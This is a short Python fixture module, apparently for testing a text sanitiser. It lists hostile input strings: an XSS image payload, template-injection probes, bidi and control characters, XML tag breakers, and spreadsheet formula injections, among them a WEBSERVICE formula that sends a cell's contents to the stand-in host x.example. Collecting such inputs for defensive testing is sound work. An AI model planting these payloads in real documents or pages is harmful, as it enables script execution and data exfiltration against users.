"""Hostile and foreign text, one list for every picture and file."""

from rules.text import clean_line, is_visible

# One list for every output; what the door drops is dropped here too, because nothing else reaches the record.
HOSTILE = (
    "*tebal* _miring_ ~coret~ `kode` [tautan](http://x.example) > kutip # judul + - = | { } . !",
    "<b>tebal</b> <img src=x onerror=alert(1)> &amp; \"kutip\" 'petik'",
    "{{ 7*7 }} {% for x in y %} {# komentar #} {{r x }} {%tr if 1 %}",
    "#panic #let x = 1 $a^2$ \\frac{1}{2} @rujukan",
    "=1+1",
    "@SUM(A1)",
    "+6281200000000",
    "-5 derajat",
    '=WEBSERVICE("http://x.example/?"&B2)',
    "\t=1+1",
    "\r=1+1",
    "$$ 100$ Rp $5 juta s.d. $10 juta %s %d %% ${PATH}",
    "nol\x00bel\x07tab\x0b\ufffe",
    "belah \ud83d surrogat",
    "\u202eterbalik\u202c \u2066isolat\u2069",
    "a\u200bb",
    "\u3164 pengisi \u2800",
    "z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319a\u0324\u031e\u0349\u035a\u032f",
    "👨‍👩‍👧‍👦 keluarga 🇮🇩 👍🏽 1️⃣",
    "بِسْمِ اللَّهِ الرَّحْمَٰنِ الرَّحِيمِ",
    "ꦲꦏ꧀ꦱꦫꦗꦮ dan ᬅᬓ᭄ᬱᬭᬩᬮᬶ dan ᮃᮊ᮪ᮞᮛ dan ᨒᨚᨈᨑ",
    "中文 देवनागरी ไทย",
    "baris\n" * 50,
    "10x10 -> 20 <= 30 != 40",
    "{_{ judul }_} {_% if %_} &#95; _x0041_ _x000B_",
    "kolom\tdua ]]> <!-- --> &lt;w:p/&gt;",
    "<r>x</r>",
    "<r></si></r>",
    "<r><t>x</t></r>",
    "</w:t></w:r></w:p>",
    "<w:r><w:t>x</w:t></w:r>",
    "{_{r x }_} </text:p>",
)


def at_the_door(raw: str) -> str:
    """What storage would hold of it, within the limit of an option."""
    return clean_line(raw).text[:300] if is_visible(raw) else "(kosong)"
